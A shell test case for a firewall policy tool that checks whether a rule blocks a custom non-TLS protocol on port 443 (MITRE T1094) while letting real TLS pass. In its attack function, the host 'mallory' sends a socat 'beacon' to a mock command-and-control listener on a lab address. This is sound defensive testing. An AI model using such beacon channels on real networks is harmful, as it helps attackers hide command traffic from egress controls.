# SPDX-License-Identifier: Apache-2.0
# A protocol of one's own on the port of TLS (socat). The twin is TLS there.
technique=T1094 what="a protocol of one's own on port 443" rule=only-tls
. "$(dirname "$case")/../tls.sh"
policy() { cat <<END
weir: 1
$(zones)
rules:
  - name: only-tls
    technique: [T1094]
    match: { from: inside, to: outside, ip.protocol: tcp, port: 443, not.app.protocol: tls }
    action: reject
END
}
servers() {
  ip -n world addr add 10.77.0.201/24 dev eth0
  tls_server world 10.77.0.200:443 page
  serve world socat TCP-LISTEN:443,bind=10.77.0.201,fork,reuseaddr SYSTEM:'read -r order; echo "orders for \$order"'
}
attack() { out mallory sh -c 'printf "\001\002beacon 7\n" | timeout 5 socat -t 3 - TCP:10.77.0.201:443' | grep -q 'orders for'; }
twin() { tls_fetch alice 10.77.0.200:443 -servername www.example.com | grep -q page; }
